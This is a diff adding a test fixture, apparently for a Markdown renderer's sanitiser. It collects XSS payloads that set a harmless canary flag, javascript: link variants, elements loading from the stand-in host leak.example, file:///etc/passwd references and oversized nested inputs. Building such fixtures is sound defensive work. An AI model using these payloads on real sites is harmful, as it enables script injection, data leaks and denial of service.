@@ -1,0 +1,56 @@
+/** What a runbook may hold that wants to be more than text. Each tries to set `window.canary`, or to leave. */
+const active = [
+  '<script>window.canary = 1</script>',
+  '<img src=x onerror="window.canary = 2">',
+  '<svg onload="window.canary = 3"><animate onbegin="window.canary = 4" attributeName="x" dur="1s"/></svg>',
+  '<svg><script href="data:text/javascript,window.canary=5"></script></svg>',
+  '<iframe srcdoc="<script>parent.canary = 6</script>"></iframe>',
+  '<object data="data:text/html,<script>parent.canary = 7</script>"></object>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.canary = 8">',
+  '<form action="https://leak.example/form" id="f"><input name="q" autofocus onfocus="window.canary = 9"><button>Go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://leak.example/refresh">',
+  '<base href="https://leak.example/">',
+  '<style>body { background: url(https://leak.example/style); display: none }</style>',
+  '<link rel="stylesheet" href="https://leak.example/link.css">',
+  '<video src="https://leak.example/video" autoplay onplay="window.canary = 10"></video>',
+  '<details open ontoggle="window.canary = 11"><summary>More</summary></details>',
+  '<a href="javascript:window.canary = 12">HTML link</a>',
+  '[Script link](javascript:window.canary=13)',
+  '[Mixed case](JaVaScRiPt:window.canary=14)',
+  '[Entity](javascript&colon;window.canary=15)',
+  '[Tab in it](java\tscript:window.canary=16)',
+  '[Data link](data:text/html,<script>window.canary=17</script>)',
+  '[VB](vbscript:window.canary=18) [File](file:///etc/passwd) [Blob](blob:null/1)',
+  '![Remote](https://leak.example/pixel.png) ![Protocol](//leak.example/pixel.png)',
+  '![Data](data:image/svg+xml,<svg/onload=window.canary=19>) ![Up](../../../../etc/passwd)',
+  '![Quote" onerror="window.canary=20](x.png "title\\" onload=\\"window.canary=21")',
+  '[reference]\n\n[reference]: javascript:window.canary=22',
+  '<javascript:window.canary=23>',
+  '```html\n<script>window.canary = 24</script>\n```',
+  '# Heading <img src=x onerror="window.canary = 25"> {#id onclick="window.canary = 26"}',
+  '| <script>window.canary = 27</script> |\n|---|\n| <img src=x onerror="window.canary = 28"> |',
+  '- [ ] <img src=x onerror="window.canary = 29"> an item',
+  'Turned \u202Egpj.exe\u202C and \u2066isolated\u2069, \uFEFF, \uFFFF',
+]
+
+const cells = 100
+const headings = 10_000
+
+/** A runbook that wants to run something, to load something, to lead astray and to take for ever. */
+export const hostileRunbook = [
+  '# Hostile runbook',
+  ...active,
+  '## Depth',
+  `${'> '.repeat(2_000)}deep quote`,
+  `${'- '.repeat(2_000)}deep list`,
+  `${'['.repeat(20_000)}brackets${'](x)'.repeat(20_000)}`,
+  `${'*a **b _c __d '.repeat(10_000)}`,
+  `Marks ${'`'.repeat(5_000)} ${'<!--'.repeat(5_000)}`,
+  '## Length',
+  `|${' column |'.repeat(cells)}\n|${'---|'.repeat(cells)}\n${`|${' cell |'.repeat(cells)}\n`.repeat(1_000)}`,
+  'word '.repeat(1_000_000),
+  '## Headings',
+  Array.from({ length: headings }, (_, index) => `### Heading ${index}`).join('\n\n'),
+  '## The end',
+  'The last line of it.',
+].join('\n\n')
